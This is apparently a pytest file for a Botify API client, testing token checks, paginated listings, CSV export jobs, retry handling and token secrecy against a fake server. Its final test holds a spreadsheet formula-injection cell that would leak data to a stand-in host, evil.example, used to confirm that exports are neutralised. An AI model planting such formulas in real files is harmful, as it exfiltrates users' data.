"""botify.py against the fake Botify API: the token check, paginated lists, the export job from start to CSV,
the faults (refused token, rate limits, server errors, failed jobs, broken downloads) and the token's secrecy."""

import csv
import gzip
import logging
import stat
import time

import pytest

from core import botify, botify_http
from core.botify import Botify, BotifyAuthError, BotifyError, BotifyJobFailed
from conftest import free_port, served
from fake_botify import TOKEN, FakeBotify


@pytest.fixture
def fake():
    "The fake Botify API, in place of conftest's fake LLM."
    with served(FakeBotify(step_delay=0.1)) as fake:
        yield fake


@pytest.fixture(autouse=True)
def scratch(tmp_path, monkeypatch):
    "Downloads and the token file go to throwaway places, never to the fork's own."
    monkeypatch.setattr(botify, "DOWNLOADS", tmp_path / "downloads")
    monkeypatch.setattr(botify, "TOKEN_FILE", tmp_path / "botify_token.txt")


def api(fake, token=TOKEN, **options):
    return Botify(token, fake.url, **{"retries": 2, "backoff": 0.01, "poll_interval": 0.05} | options)


@pytest.mark.asyncio
async def test_a_good_token_gives_its_username(fake):
    async with api(fake) as client:
        assert await client.username() == "jane.doe"
    assert fake.requests == [("GET", "/v1/authentication/profile")]


@pytest.mark.parametrize("token, faults, message", [("wrong-token-0000", [], "refused the API token"),
                                                     (TOKEN, [403], "denied this token access")])
@pytest.mark.asyncio
async def test_a_refused_token_is_an_auth_error_and_not_retried(fake, token, faults, message):
    fake.faults = faults
    async with api(fake, token) as client:
        with pytest.raises(BotifyAuthError, match=message):
            await client.username()
    assert len(fake.requests) == 1


@pytest.mark.asyncio
async def test_projects_follow_every_page(fake):
    async with api(fake) as client:
        projects = await client.projects("jane.doe")
    assert [p["slug"] for p in projects] == ["example-shop", "example-blog", "docs", "help-center", "personal-site"]
    assert projects[0]["user"]["login"] == "acme-org"
    assert len(fake.requests) == 3  # five projects, two a page


@pytest.mark.asyncio
async def test_analyses_follow_every_page_and_leave_out_unfinished_ones(fake):
    async with api(fake) as client:
        finished = await client.analyses("acme-org", "example-shop")
        every = await client.analyses("acme-org", "example-shop", only_success=False)
        with pytest.raises(BotifyError, match="HTTP 404: Project not found"):
            await client.analyses("acme-org", "no-such-project")
    assert [a["slug"] for a in finished] == ["20250301", "20250201-2", "20250201", "20250101"]
    assert [a["slug"] for a in every] == ["20250401", *[a["slug"] for a in finished]]


def test_the_export_request_is_a_bql_query_over_the_crawl_collection():
    assert botify.export_job("acme-org", "example-shop", "20250301", ["url", "depth"], 500) == {
        "job_type": "export",
        "payload": {"username": "acme-org", "project": "example-shop", "connector": "direct_download",
                    "formatter": "csv", "export_size": 500,
                    "query": {"collections": ["crawl.20250301"],
                              "query": {"dimensions": ["crawl.20250301.url", "crawl.20250301.depth"],
                                        "metrics": []}}}}
    filters = {"field": "crawl.20250301.depth", "predicate": "lte", "value": 3}
    query = botify.export_job("acme-org", "example-shop", "20250301", filters=filters)["payload"]["query"]["query"]
    assert query["filters"] == filters
    assert query["dimensions"][:3] == ["crawl.20250301.url", "crawl.20250301.http_code", "crawl.20250301.depth"]


@pytest.mark.asyncio
async def test_an_export_goes_from_job_to_csv_with_progress(fake):
    events = []

    async def progress(event): events.append(event)

    async with api(fake) as client:
        path = await client.export_csv("acme-org", "example-shop", "20250301", size=10, on_progress=progress)
    assert path == botify.DOWNLOADS / "acme-org_example-shop_20250301_1000.csv"
    lines = path.read_text().splitlines()
    assert lines[0] == ",".join(botify.DEFAULT_FIELDS) and len(lines) == 11
    assert lines[1].startswith("https://www.example.com/page-0,")
    statuses = [e["status"] for e in events if e["stage"] == "job"]
    assert statuses[0] == "CREATED" and "PROCESSING" in statuses and statuses[-1] == "DONE"
    assert statuses == sorted(statuses, key=["CREATED", "PROCESSING", "DONE"].index)
    download = [e for e in events if e["stage"] == "download"]
    assert download and download[-1]["received"] == download[-1]["total"] > 0
    assert all(e["message"] for e in events)
    assert list(botify.DOWNLOADS.iterdir()) == [path]  # nothing else left behind


@pytest.mark.asyncio
async def test_a_pending_job_is_picked_up_again_from_its_url(fake):
    fake.step_delay = 0.3
    async with api(fake) as client:
        job = await client.start_export("acme-org", "example-shop", "20250301")
    assert job["job_status"] == "CREATED" and job["job_url"] == f"/v1/jobs/{job['job_id']}"
    async with api(fake) as after_a_restart:  # a new client, as after the app restarted, with only job_url kept
        done = await after_a_restart.wait_for_job(job["job_url"])
        path = await after_a_restart.download_csv(done["results"]["download_url"])
    assert done["job_status"] == "DONE" and path.name == f"{job['job_id']}.csv"
    assert fake.requests.count(("POST", "/v1/jobs")) == 1


@pytest.mark.asyncio
async def test_a_failed_job_raises_its_error_and_downloads_nothing(fake):
    fake.fail_jobs = "The export failed: unknown field crawl.20250301.nope"
    async with api(fake) as client:
        with pytest.raises(BotifyJobFailed, match="failed: The export failed: unknown field") as raised:
            await client.export_csv("acme-org", "example-shop", "20250301")
    assert raised.value.job["job_status"] == "FAILED"
    assert fake.download_requests == [] and not botify.DOWNLOADS.exists()


@pytest.mark.asyncio
async def test_a_request_botify_rejects_says_why(fake):
    async with api(fake) as client:
        with pytest.raises(BotifyError, match="HTTP 400: Unknown collection"):
            await client.start_export("acme-org", "example-shop", "19990101")


@pytest.mark.asyncio
async def test_429_waits_as_long_as_retry_after_says_then_retries(fake):
    fake.faults, fake.retry_after = [429], "1"
    async with api(fake, backoff=0.01) as client:
        started = time.monotonic()
        job = await client.start_export("acme-org", "example-shop", "20250301")
    assert 1.0 <= time.monotonic() - started < 3
    assert job["job_status"] == "CREATED" and fake.requests.count(("POST", "/v1/jobs")) == 2


def test_retry_after_is_seconds_or_an_http_date():
    import httpx
    from email.utils import format_datetime
    from datetime import datetime, timedelta, timezone

    def after(value): return botify_http.retry_after(httpx.Response(429, headers={"Retry-After": value}))

    assert after("7") == 7
    assert 25 < after(format_datetime(datetime.now(timezone.utc) + timedelta(seconds=30), usegmt=True)) <= 30
    assert after("soon") is None


@pytest.mark.asyncio
async def test_rate_limits_that_go_on_end_in_a_clear_error(fake):
    fake.faults, fake.retry_after = [429] * 5, "0"
    async with api(fake, retries=2) as client:
        with pytest.raises(BotifyError, match="still rate-limiting requests after 3 tries"):
            await client.username()
    assert len(fake.requests) == 3


@pytest.mark.asyncio
async def test_server_errors_are_retried_a_bounded_number_of_times(fake):
    fake.faults = [500, 502]
    async with api(fake, retries=2) as client:
        assert await client.username() == "jane.doe"
    fake.faults = [500, 503, 502, 500]
    fake.requests.clear()
    async with api(fake, retries=2) as client:
        with pytest.raises(BotifyError, match="HTTP 502 after 3 tries: Internal server error"):
            await client.projects("jane.doe")
    assert len(fake.requests) == 3


@pytest.mark.asyncio
async def test_a_server_error_on_starting_an_export_is_not_retried(fake):
    # Botify may have started the job before failing: a second POST could start, and bill, a second export.
    fake.faults = [500]
    async with api(fake, retries=3) as client:
        with pytest.raises(BotifyError, match="HTTP 500"):
            await client.start_export("acme-org", "example-shop", "20250301")
    assert fake.requests == [("POST", "/v1/jobs")]


@pytest.mark.asyncio
async def test_a_get_whose_answer_never_comes_is_sent_again(fake):
    fake.faults = ["stall"]
    async with api(fake, timeout=0.3) as client:
        assert await client.username() == "jane.doe"
    assert len(fake.requests) == 2


@pytest.mark.asyncio
async def test_a_post_whose_answer_never_comes_is_not_sent_again(fake):
    fake.faults = ["stall"]
    async with api(fake, timeout=0.3) as client:
        with pytest.raises(BotifyError, match="ReadTimeout.*Botify may have got the request: check before"):
            await client.start_export("acme-org", "example-shop", "20250301")
    assert fake.requests == [("POST", "/v1/jobs")]


@pytest.mark.asyncio
async def test_an_unreachable_api_is_retried_then_a_clear_error(caplog):
    caplog.set_level(logging.WARNING, logger="core.botify")
    base = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    async with Botify(TOKEN, base, retries=2, backoff=0.01) as client:
        with pytest.raises(BotifyError, match=f"Could not reach the Botify API at {base} \\(ConnectError"):
            await client.username()
    assert len([r for r in caplog.records if "trying again" in r.message]) == 2


@pytest.mark.asyncio
async def test_a_download_cut_off_once_is_fetched_again(fake):
    fake.break_downloads = 1
    async with api(fake) as client:
        path = await client.export_csv("acme-org", "example-shop", "20250301", size=5)
    assert len(path.read_text().splitlines()) == 6 and len(fake.download_requests) == 2


@pytest.mark.asyncio
async def test_a_download_that_keeps_breaking_leaves_no_file_behind(fake):
    fake.break_downloads = 10
    async with api(fake, retries=2) as client:
        with pytest.raises(BotifyError, match="the download broke off \\(RemoteProtocolError\\), 3 times"):
            await client.export_csv("acme-org", "example-shop", "20250301")
    assert len(fake.download_requests) == 3
    assert list(botify.DOWNLOADS.iterdir()) == []  # no partial CSV, no .gz, no scratch folder


@pytest.mark.asyncio
async def test_the_download_link_never_gets_the_token(fake):
    async with api(fake) as client:
        await client.export_csv("acme-org", "example-shop", "20250301", size=3)
    assert fake.download_requests and not any("authorization" in h for h in fake.download_requests)


def test_the_token_file_is_private_and_removable():
    assert botify.load_token() is None
    botify.TOKEN_FILE.write_text("an old token\n")
    botify.TOKEN_FILE.chmod(0o644)  # as if someone made it readable by all
    botify.save_token(f"  {TOKEN}\n")
    assert stat.S_IMODE(botify.TOKEN_FILE.stat().st_mode) == 0o600
    assert botify.load_token() == TOKEN
    assert botify.delete_token() and not botify.TOKEN_FILE.exists() and botify.load_token() is None
    assert not botify.delete_token()


def test_a_masked_token_shows_its_last_four_characters_only():
    assert botify.masked(TOKEN) == "…cdef"
    assert botify.masked("short-token") == "…"


def test_the_token_file_is_gitignored():
    from conftest import ROOT

    assert "botify_token.txt" in (ROOT / ".gitignore").read_text().splitlines()


@pytest.mark.asyncio
async def test_the_token_appears_in_no_log_line_and_no_error(fake, caplog):
    caplog.set_level(logging.DEBUG)  # every logger, httpx and httpcore included, at their most verbose
    fake.faults, fake.retry_after, fake.break_downloads = [429, 500], "0", 1
    errors = []
    async with api(fake) as client:
        await client.username()
        await client.export_csv("acme-org", "example-shop", "20250301", size=3)
    for token in (TOKEN, "wrong-token-0123456789"):
        async with api(fake, token, retries=0) as client:
            fake.faults = [500] if token == TOKEN else []
            with pytest.raises(BotifyError) as raised:
                await client.projects("jane.doe")
            errors.append(f"{raised.value} {raised.value!r} {raised.value.__cause__!r}")
    assert any("HTTP Request" in r.getMessage() for r in caplog.records)  # httpx did log its requests
    logged = "\n".join(f"{r.getMessage()} {r.args}" for r in caplog.records)
    for token in (TOKEN, "wrong-token-0123456789"):
        assert token not in logged and token not in " ".join(errors)


def test_an_export_is_unpacked_with_every_cell_a_spreadsheet_would_run_made_text(tmp_path):
    rows = [["url", "metadata.title.content", "depth"],
            ["https://www.example.com/", '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "-1"],
            ["https://www.example.com/a", "@SUM(A1:A9)", "2"]]
    packed = tmp_path / "export.csv.gz"
    with gzip.open(packed, "wt", newline="") as file: csv.writer(file).writerows(rows)
    botify.gunzip(packed, tmp_path / "export.csv")
    with (tmp_path / "export.csv").open(newline="") as file:
        assert list(csv.reader(file)) == [rows[0], [rows[1][0], "'" + rows[1][1], "-1"],
                                          [rows[2][0], "'@SUM(A1:A9)", "2"]]
